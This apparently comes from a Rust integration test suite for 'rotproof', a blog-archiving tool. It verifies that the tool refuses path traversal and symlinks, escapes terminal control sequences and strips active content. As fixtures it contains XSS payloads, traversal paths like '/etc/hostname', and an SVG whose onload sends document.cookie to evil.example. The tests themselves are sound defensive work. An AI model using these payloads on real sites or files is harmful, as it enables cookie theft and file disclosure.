//! Blog-scale safety: a run never replaces another post's folder, one bad
//! post never stops the others, `--refresh` never replaces what is
//! archived, bundles carry only the post's own files and no active content,
//! and what posts contain never reaches the terminal raw. (Addresses,
//! headers and descriptors: `fetching.rs`.)

use crate::harness::*;
use crate::images::*;
use crate::server::*;

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_later_run_never_replaces_a_different_post_with_the_same_slug() {
    let server = RawServer::start(|path, _| Reply::ok(jpeg(200, 100, seed_of(path)))).await;
    let site = Site::new();
    site.write(
        "content/2023/hello/index.md",
        &format!("---\ntitle: 2023\n---\n![]({})\n", server.url("/2023.jpg")),
    );
    site.write(
        "content/2024/hello/index.md",
        &format!("---\ntitle: 2024\n---\n![]({})\n", server.url("/2024.jpg")),
    );
    rotproof(
        args(&["archive", "content/2023/hello/index.md"]),
        site.path(),
    )
    .await
    .code(0);
    rotproof(args(&["check"]), site.path()).await.code(0);
    let manifest = site.read("archive/hello/.rotproof/manifest.json");
    let index = site.read("archive/hello/index.md");

    let out = rotproof(
        args(&["archive", "content/2024/hello/index.md"]),
        site.path(),
    )
    .await;
    out.code(1);
    let err = out.stderr();
    assert!(
        err.contains("content/2024/hello/index.md") && err.contains("content/2023/hello/index.md"),
        "names both posts: {err}"
    );
    assert!(err.contains("--slug"), "suggests a way out: {err}");
    assert_eq!(site.read("archive/hello/.rotproof/manifest.json"), manifest);
    assert_eq!(site.read("archive/hello/index.md"), index);
    assert_eq!(
        server.hits("/2024.jpg"),
        0,
        "nothing fetched for the refused post"
    );

    // The same post again is its own folder's; another slug is a new one.
    rotproof(
        args(&["archive", "content/2023/hello/index.md"]),
        site.path(),
    )
    .await
    .code(0);
    rotproof(
        args(&[
            "archive",
            "content/2024/hello/index.md",
            "--slug",
            "hello-2024",
        ]),
        site.path(),
    )
    .await
    .code(0);
    assert_eq!(site.manifest("hello-2024")["post"]["title"], "2024");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_posts_with_one_slug_in_a_run_archive_the_first_and_refuse_the_second() {
    let server = RawServer::start(|_, _| Reply::ok(jpeg(200, 100, 1))).await;
    let site = Site::new();
    for year in ["2023", "2024"] {
        site.write(
            &format!("content/{year}/hello/index.md"),
            &format!("![]({})\n", server.url(&format!("/{year}.jpg"))),
        );
    }
    // Named on the command line, both go to the root, as `hello/`.
    let out = rotproof(
        args(&[
            "archive",
            "content/2023/hello/index.md",
            "content/2024/hello/index.md",
        ]),
        site.path(),
    )
    .await;
    out.code(1);
    assert!(
        out.stderr().contains("content/2024/hello/index.md"),
        "{}",
        out.stderr()
    );
    assert_eq!(
        site.manifest("hello")["post"]["source"],
        "../content/2023/hello/index.md"
    );
}

/// A run over `content/` put every post at the root by its slug: sections
/// flattened (`page/about` became `about`, `_index.md` became `_index`),
/// and one stem in two folders (`README.md`, `2023/hello`, `2024/hello`)
/// refused all but the first. The tree is kept now; a post archived
/// before keeps its folder.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_folder_run_flattens_sections_and_refuses_colliding_stems() {
    let server = RawServer::start(|_, _| Reply::ok(jpeg(200, 100, 1))).await;
    let site = Site::new();
    let image = |n: &str| format!("![]({})\n", server.url(&format!("/{n}.jpg")));
    site.write("content/2023/hello/index.md", &image("a"));
    site.write("content/2024/hello/index.md", &image("b"));
    site.write("content/docs/README.md", &image("c"));
    site.write("content/notes/README.md", &image("d"));
    site.write("content/page/about/index.md", &image("e"));
    site.write("content/page/_index.md", &image("f"));
    site.write("content/top.md", &image("g"));
    // Archived before, on its own: it keeps its folder.
    rotproof(
        args(&["archive", "content/2023/hello/index.md"]),
        site.path(),
    )
    .await
    .code(0);
    rotproof(args(&["archive", "content"]), site.path())
        .await
        .code(0);
    for (folder, post) in [
        ("hello", "2023/hello/index.md"),
        ("2024/hello", "2024/hello/index.md"),
        ("docs/README", "docs/README.md"),
        ("notes/README", "notes/README.md"),
        ("page/about", "page/about/index.md"),
        ("page", "page/_index.md"),
        ("top", "top.md"),
    ] {
        let m = site.manifest(folder);
        // Relative to the folder's parent: the root for a folder at its top.
        let up = "../".repeat(folder.matches('/').count() + 1);
        assert_eq!(
            m["post"]["source"],
            format!("{up}content/{post}"),
            "{folder}"
        );
        assert_eq!(m["resources"][0]["status"], "archived", "{folder}");
    }
    assert!(!site.path().join("archive/2023").exists());
    // check and verify find post folders at any depth.
    let out = rotproof(args(&["verify", "archive", "--json"]), site.path()).await;
    out.code(0);
    assert_eq!(out.json()["posts"].as_array().map(Vec::len), Some(7));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_bad_post_never_stops_a_folder_run() {
    let server = RawServer::start(|_, _| Reply::ok(jpeg(200, 100, 1))).await;
    let site = Site::new();
    site.write(
        "posts/a-good.md",
        &format!("![]({})\n", server.url("/a.jpg")),
    );
    site.write(
        "posts/b-bad.md",
        "---\ntitle: ok\ncover: \"unclosed\n---\nbody\n",
    );
    site.write(
        "posts/c-good.md",
        &format!("![]({})\n", server.url("/c.jpg")),
    );

    let dry = rotproof(args(&["archive", "--dry-run", "posts"]), site.path()).await;
    dry.code(1);
    assert!(dry.stdout().contains("posts/a-good.md") && dry.stdout().contains("posts/c-good.md"));
    assert!(
        dry.stderr().contains("posts/b-bad.md") && dry.stderr().contains("line 3"),
        "{}",
        dry.stderr()
    );

    let out = rotproof(args(&["archive", "posts"]), site.path()).await;
    out.code(1);
    assert!(out.stderr().contains("posts/b-bad.md"), "{}", out.stderr());
    for slug in ["a-good", "c-good"] {
        assert_eq!(site.manifest(slug)["resources"][0]["status"], "archived");
    }
    assert!(!site.path().join("archive/b-bad").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn terminal_escapes_in_a_post_are_printed_escaped() {
    let site = Site::new();
    // An escape sequence that would retitle the terminal and clear it.
    site.write(
        "e.md",
        "<img src=\"pic\u{1b}]0;pwned\u{7}\u{1b}[2J.png\"> <a href=\"/root\u{1b}[31m\">x</a>\n",
    );
    let dry = rotproof(args(&["archive", "--dry-run", "e.md"]), site.path()).await;
    let out = rotproof(args(&["archive", "e.md", "--retries", "0"]), site.path()).await;
    for run in [&dry, &out] {
        let text = format!("{}{}", run.stdout(), run.stderr());
        assert!(
            !text.contains('\u{1b}') && !text.contains('\u{7}'),
            "{text:?}"
        );
    }
    assert!(dry.stdout().contains("\\u{1b}"), "{}", dry.stdout());
    // JSON escapes them its own way, C1 controls (CSI) included, and stays
    // JSON (a Rust escape `\u{9b}` inside a JSON string is not).
    site.write("c1.md", "![x](https://x.example/a\u{9b}31mb.png)\n");
    let mut printed = Vec::new();
    for cmd in [
        &["archive", "--dry-run", "--json", "c1.md"][..],
        &[
            "archive",
            "--json",
            "c1.md",
            "--retries",
            "0",
            "--timeout",
            "1",
        ][..],
    ] {
        let text = rotproof(args(cmd), site.path()).await.stdout();
        assert!(
            !text.contains('\u{9b}') && !text.contains('\u{1b}'),
            "{text:?}"
        );
        serde_json::from_str::<serde_json::Value>(&text).unwrap_or_else(|e| panic!("{e}: {text}"));
        printed.push(text);
    }
    assert!(printed[0].contains("a\\u009b31mb.png"), "{}", printed[0]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bundle_refuses_what_a_hostile_manifest_names() {
    let server = RawServer::start(|_, _| Reply::ok(jpeg(200, 100, 1))).await;
    let site = Site::new();
    site.write("b.md", &format!("![]({})\n", server.url("/a.jpg")));
    rotproof(args(&["archive", "b.md"]), site.path())
        .await
        .code(0);
    let manifest_path = site.path().join("archive/b/.rotproof/manifest.json");
    let good = std::fs::read_to_string(&manifest_path).expect("manifest");
    let m: serde_json::Value = serde_json::from_str(&good).expect("json");
    let asset = m["resources"][0]["path"]
        .as_str()
        .expect("path")
        .to_string();
    std::fs::write(site.path().join("secret"), "a secret").expect("secret");

    let mut cases: Vec<(&str, serde_json::Value)> = Vec::new();
    for path in ["/etc/hostname", "../../secret", "assets/../../../secret"] {
        let mut hostile = m.clone();
        hostile["resources"][0]["path"] = serde_json::json!(path);
        cases.push((path, hostile));
    }
    for (what, hostile) in cases {
        std::fs::write(&manifest_path, hostile.to_string()).expect("write");
        for form in ["b.zip", "b.html"] {
            let out = rotproof(args(&["bundle", "archive/b", "-o", form]), site.path()).await;
            out.code_with(1, format!("{what} / {form}"));
            assert!(out.stderr().contains(what), "names it: {}", out.stderr());
            assert!(
                !site.path().join(form).exists(),
                "{what}: a bundle was written"
            );
        }
    }
    // A symlink planted under an asset's name, and an asset whose bytes
    // were changed, are refused too.
    std::fs::write(&manifest_path, &good).expect("restore");
    let asset_path = site.path().join("archive/b").join(&asset);
    let original = std::fs::read(&asset_path).expect("asset");
    std::fs::remove_file(&asset_path).expect("rm");
    #[cfg(unix)]
    {
        std::os::unix::fs::symlink(site.path().join("secret"), &asset_path).expect("symlink");
        let out = rotproof(args(&["bundle", "archive/b", "-o", "b.zip"]), site.path()).await;
        out.code(1);
        assert!(out.stderr().contains("symbolic link"), "{}", out.stderr());
        std::fs::remove_file(&asset_path).expect("rm link");
    }
    let mut changed = original.clone();
    changed[original.len() / 2] ^= 1;
    std::fs::write(&asset_path, changed).expect("write");
    let out = rotproof(args(&["bundle", "archive/b", "-o", "b.zip"]), site.path()).await;
    out.code(1);
    assert!(!site.path().join("b.zip").exists());

    // A slug that tries to escape still bundles here, under a plain name.
    std::fs::write(&asset_path, original).expect("restore asset");
    let mut escaping = m.clone();
    escaping["post"]["slug"] = serde_json::json!("../../escaped");
    std::fs::write(&manifest_path, escaping.to_string()).expect("write");
    let inner = site.path().join("inner");
    std::fs::create_dir_all(&inner).expect("mkdir");
    rotproof(args(&["bundle", "../archive/b"]), &inner)
        .await
        .code(0);
    assert!(inner.join("escaped.zip").is_file());
    assert!(!site.path().join("escaped.zip").exists());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn archive_refresh_keeps_the_original_and_stores_new_bytes_as_a_version() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let phase = Arc::new(AtomicUsize::new(0));
    let p = phase.clone();
    let server = RawServer::start(move |_, _| match p.load(Ordering::SeqCst) {
        0 => Reply::ok(jpeg(300, 200, 1)).with_header("ETag", "\"one\""),
        // A placeholder with a new ETag, then a server that is down.
        1 => Reply::ok(jpeg(300, 200, 99)).with_header("ETag", "\"two\""),
        _ => Reply::status(503),
    })
    .await;
    let site = Site::new();
    site.write("r.md", &format!("![]({})\n", server.url("/img")));
    rotproof(args(&["archive", "r.md"]), site.path())
        .await
        .code(0);
    let original = entry(&site.manifest("r"), &server.url("/img")).clone();
    let index = site.read("archive/r/index.md");

    phase.store(1, Ordering::SeqCst);
    rotproof(args(&["archive", "r.md", "--refresh"]), site.path())
        .await
        .code(0);
    let m = site.manifest("r");
    let e = entry(&m, &server.url("/img"));
    assert_eq!(e["sha256"], original["sha256"], "the archived copy stays");
    assert_eq!(e["path"], original["path"]);
    assert_eq!(
        site.read("archive/r/index.md"),
        index,
        "index.md still shows it"
    );
    let versions = e["versions"].as_array().expect("versions");
    assert_eq!(versions.len(), 1, "{e:#}");
    assert_ne!(versions[0]["sha256"], original["sha256"]);
    assert!(
        site.path()
            .join("archive/r")
            .join(versions[0]["path"].as_str().unwrap())
            .is_file()
    );
    rotproof(args(&["verify"]), site.path()).await.code(0);

    // A refresh that fails changes nothing.
    phase.store(2, Ordering::SeqCst);
    rotproof(
        args(&["archive", "r.md", "--refresh", "--retries", "0"]),
        site.path(),
    )
    .await
    .code(0);
    let e = entry(&site.manifest("r"), &server.url("/img")).clone();
    assert_eq!(e["status"], "archived");
    assert_eq!(e["sha256"], original["sha256"]);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn active_content_and_remote_embeds_never_reach_index_html() {
    let site = Site::new();
    site.write(
        "a.md",
        "---\ntitle: Hostile\nsource: javascript:alert(1)\n---\n\
         <script>alert('in a script')</script>\n\n\
         <img src=\"x.png\" onerror=\"alert('onerror')\">\n\n\
         [click](javascript:alert('link'))\n\n\
         <iframe src=\"https://frames.example/\"></iframe>\n\n\
         <link rel=\"stylesheet\" href=\"https://css.example/s.css\">\n\n\
         <style>body { background: url(https://css.example/bg.png) }</style>\n\n\
         <a href=\"https://fine.example/\" onclick=\"alert('click')\">a fine link</a>\n",
    );
    rotproof(args(&["archive", "a.md", "--links", "ignore"]), site.path())
        .await
        .code(0);
    for form in ["a.zip", "a.html"] {
        rotproof(args(&["bundle", "archive/a", "-o", form]), site.path())
            .await
            .code(0);
    }
    let unpacked = site.path().join("unzipped");
    crate::bundle::unzip(
        &std::fs::read(site.path().join("a.zip")).unwrap(),
        &unpacked,
    );
    for html in [
        std::fs::read_to_string(unpacked.join("a/index.html")).unwrap(),
        site.read("a.html"),
    ] {
        let lower = html.to_lowercase();
        for active in [
            "<script",
            "onerror",
            "onclick",
            "javascript:",
            "<iframe",
            "<link",
            "frames.example",
            "css.example",
            "alert(",
        ] {
            assert!(!lower.contains(active), "{active} in:\n{html}");
        }
        assert!(html.contains("Content-Security-Policy"));
        assert!(
            html.contains("href=\"https://fine.example/\""),
            "a plain link stays"
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_hostile_manifest_never_brings_a_file_from_outside_into_the_folder() {
    use sha2::Digest;
    let server = RawServer::start(|_, _| Reply::ok(jpeg(200, 100, 1))).await;
    let site = Site::new();
    site.write("p.md", &format!("![]({})\n", server.url("/a.jpg")));
    rotproof(args(&["archive", "p.md"]), site.path())
        .await
        .code(0);
    // A secret beside the archive, and a manifest that claims it, with its
    // true sha256, as the post's image.
    let secret = b"\xff\xd8\xff secret bytes".to_vec();
    std::fs::write(site.path().join("secret.jpg"), &secret).unwrap();
    let path = site.path().join("archive/p/.rotproof/manifest.json");
    let mut m: serde_json::Value = serde_json::from_slice(&std::fs::read(&path).unwrap()).unwrap();
    m["resources"][0]["path"] = "../../secret.jpg".into();
    m["resources"][0]["sha256"] = hex::encode(sha2::Sha256::digest(&secret)).into();
    m["resources"][0]["bytes"] = secret.len().into();
    std::fs::write(&path, m.to_string()).unwrap();

    let verified = rotproof(args(&["verify", "--json"]), site.path()).await;
    verified.code(3);
    assert!(
        verified
            .stdout()
            .contains("not a path inside the post folder"),
        "{}",
        verified.stdout()
    );
    rotproof(args(&["archive", "p.md"]), site.path())
        .await
        .code(0);
    for file in walk(&site.path().join("archive/p")) {
        assert_ne!(
            std::fs::read(&file).unwrap_or_default(),
            secret,
            "{}",
            file.display()
        );
    }
    rotproof(args(&["verify"]), site.path()).await.code(0);
}

/// A date past what RFC 3339, HTTP dates and Wayback timestamps can write
/// (four-digit years): each post is archived, the date kept at the latest
/// moment the formats hold, with and without web archives asked.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_post_dated_after_9999_panics_archive() {
    let gone = RawServer::start(|_, _| Reply::status(404)).await;
    let site = Site::new();
    site.write(
        "far.md",
        &format!(
            "---\ndate: 9999-12-31T23:00:00-05:00\n---\n\n![x]({})\n",
            gone.url("/x.png")
        ),
    );
    site.write("near.md", "---\ndate: 2024-01-01\n---\n\n# fine\n");
    let archives = format!(
        "[archives]\nwayback = \"{0}\"\ntimegate = \"{0}/tg/\"\n",
        gone.base
    );
    site.write_user_config(&archives);
    for list in ["none", "wayback,memento"] {
        let out = rotproof(
            args(&[
                "archive",
                "far.md",
                "near.md",
                "--archives",
                list,
                "--retries",
                "0",
            ]),
            site.path(),
        )
        .await;
        out.code_with(3, list);
        assert!(!out.stderr().contains("panicked"), "{}", out.stderr());
        let m = site.manifest("far");
        assert_eq!(m["post"]["date"], "9999-12-31T23:59:59Z", "{list}");
        assert_eq!(
            site.manifest("near")["post"]["date"],
            "2024-01-01T00:00:00Z"
        );
    }
    // The web archives were asked, with what their formats can write.
    let asked = gone.all_hits();
    assert!(
        asked
            .keys()
            .any(|p| p.starts_with("/web/99991231235959id_/")),
        "asked: {asked:?}"
    );
}

/// A table cell's inline style that loads something: only the CSP meta
/// tag stood between it and a request. The style goes.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_single_file_html_keeps_style_urls() {
    let site = Site::new();
    site.write(
        "s.md",
        "<table><tr><td style=\"background-image:url(https://tracker.example/p.gif)\">x</td><td style=\"text-align: right\">y</td></tr></table>\n",
    );
    rotproof(args(&["archive", "s.md"]), site.path())
        .await
        .code(0);
    rotproof(args(&["bundle", "archive/s", "-o", "s.html"]), site.path())
        .await
        .code(0);
    let html = site.read("s.html");
    assert!(!html.contains("tracker.example"), "{html}");
    assert!(
        html.contains("text-align: right"),
        "other styles stay: {html}"
    );
}

const SCRIPTED_SVG: &str = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="fetch('https://evil.example/?'+document.cookie)"><script>alert(document.domain)</script><circle cx="5" cy="5" r="4" fill="teal"/></svg>"#;

fn file_bytes(site: &Site, rel: &str) -> Vec<u8> {
    std::fs::read(site.path().join(rel)).unwrap_or_else(|e| panic!("{rel}: {e}"))
}

/// `[![logo](x.svg)](x.svg)`: the link opened the published SVG, whose
/// `onload` ran with the blog's origin. What `assets/` holds now runs
/// nothing; the bytes as fetched stay, unpublished, for fixity.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_linked_svg_runs_its_script_on_the_blogs_origin() {
    let clean = r#"<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 4 4"><rect width="4" height="4"/></svg>"#;
    let server = RawServer::start(move |path, _| match path {
        "/logo.svg" => Reply::ok(SCRIPTED_SVG.as_bytes().to_vec()),
        "/clean.svg" => Reply::ok(clean.as_bytes().to_vec()),
        _ => Reply::status(404),
    })
    .await;
    let (logo, plain) = (server.url("/logo.svg"), server.url("/clean.svg"));
    let site = Site::new();
    site.write(
        "s.md",
        &format!("[![logo]({logo})]({logo})\n\n![c]({plain})\n"),
    );
    rotproof(
        args(&["archive", "s.md", "--archives", "none"]),
        site.path(),
    )
    .await
    .code(0);
    let m = site.manifest("s");
    let e = entry(&m, &logo).clone();
    let shown = e["path"].as_str().expect("an asset path");
    let served =
        String::from_utf8(file_bytes(&site, &format!("archive/s/{shown}"))).expect("UTF-8");
    for gone in ["onload", "script", "evil.example", "alert"] {
        assert!(!served.contains(gone), "{gone} published: {served}");
    }
    assert!(
        served.contains(r#"<circle cx="5" cy="5" r="4" fill="teal"/>"#),
        "{served}"
    );
    assert!(
        served.contains(r#"viewBox="0 0 10 10""#),
        "case kept: {served}"
    );
    let original = e["original"]["path"]
        .as_str()
        .expect("the bytes as fetched");
    assert!(original.starts_with(".rotproof/originals/"), "{original}");
    assert_eq!(
        file_bytes(&site, &format!("archive/s/{original}")),
        SCRIPTED_SVG.as_bytes()
    );
    assert_eq!(e["original"]["bytes"], SCRIPTED_SVG.len());
    assert_eq!(e["bytes"], served.len());
    // The image and the link both open the safe copy.
    let index = site.read("archive/s/index.md");
    assert_eq!(index.matches(shown).count(), 2, "{index}");
    assert!(!index.contains(original), "{index}");
    // A clean SVG is published as it was fetched.
    let c = entry(&m, &plain);
    assert!(c["original"].is_null(), "{c:#}");
    assert_eq!(
        site.read(&format!("archive/s/{}", c["path"].as_str().unwrap_or(""))),
        clean
    );

    rotproof(args(&["verify", "archive/s"]), site.path())
        .await
        .code(0);
    // A re-run keeps both files, fetching nothing; a check finds it alive,
    // not changed (the comparison is with the bytes as fetched).
    rotproof(
        args(&["archive", "s.md", "--archives", "none"]),
        site.path(),
    )
    .await
    .code(0);
    assert_eq!(server.hits("/logo.svg"), 1);
    assert_eq!(entry(&site.manifest("s"), &logo)["path"], e["path"]);
    let out = rotproof(args(&["check", "archive/s", "--json"]), site.path()).await;
    out.code(0);
    let json = out.json();
    let rows = json["results"].as_array().cloned().unwrap_or_default();
    let row = rows
        .iter()
        .find(|r| r["url"] == logo.as_str())
        .expect("checked");
    assert_eq!(row["result"], "alive", "{json:#}");
    rotproof(args(&["verify", "archive/s"]), site.path())
        .await
        .code(0);
}

/// An archive made before SVGs were made safe: its next run publishes the
/// safe copy and keeps the bytes as fetched, without fetching anything
/// (the host is gone).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_svg_archived_before_is_made_safe_by_the_next_run() {
    let server = RawServer::start(|path, _| match path {
        "/logo.svg" => Reply::ok(SCRIPTED_SVG.as_bytes().to_vec()),
        _ => Reply::status(404),
    })
    .await;
    let logo = server.url("/logo.svg");
    let site = Site::new();
    site.write("s.md", &format!("![logo]({logo})\n"));
    rotproof(
        args(&["archive", "s.md", "--archives", "none"]),
        site.path(),
    )
    .await
    .code(0);
    // Made as the previous version made it: the raw file in assets/.
    let mut m = site.manifest("s");
    let raw = entry(&m, &logo)["original"].clone();
    let raw_name = raw["path"]
        .as_str()
        .expect("original")
        .rsplit('/')
        .next()
        .unwrap_or("")
        .to_string();
    std::fs::write(
        site.path().join(format!("archive/s/assets/{raw_name}")),
        SCRIPTED_SVG,
    )
    .expect("write");
    for e in m["resources"].as_array_mut().expect("resources") {
        e["path"] = format!("assets/{raw_name}").into();
        e["sha256"] = raw["sha256"].clone();
        e["bytes"] = raw["bytes"].clone();
        e.as_object_mut().expect("object").remove("original");
    }
    std::fs::remove_dir_all(site.path().join("archive/s/.rotproof/originals")).expect("rm");
    site.write("archive/s/.rotproof/manifest.json", &m.to_string());
    site.write(
        "archive/s/index.md",
        &format!("![logo](assets/{raw_name})\n"),
    );
    drop(server);

    rotproof(
        args(&["archive", "s.md", "--archives", "none"]),
        site.path(),
    )
    .await
    .code(0);
    let e = entry(&site.manifest("s"), &logo).clone();
    let shown = e["path"].as_str().expect("path");
    assert_ne!(shown, format!("assets/{raw_name}"));
    assert!(!site.read(&format!("archive/s/{shown}")).contains("onload"));
    assert_eq!(e["original"]["sha256"], raw["sha256"]);
    assert!(
        !site
            .path()
            .join(format!("archive/s/assets/{raw_name}"))
            .exists(),
        "the scripted file leaves assets/"
    );
    assert!(site.read("archive/s/index.md").contains(shown));
    rotproof(args(&["verify", "archive/s"]), site.path())
        .await
        .code(0);
}
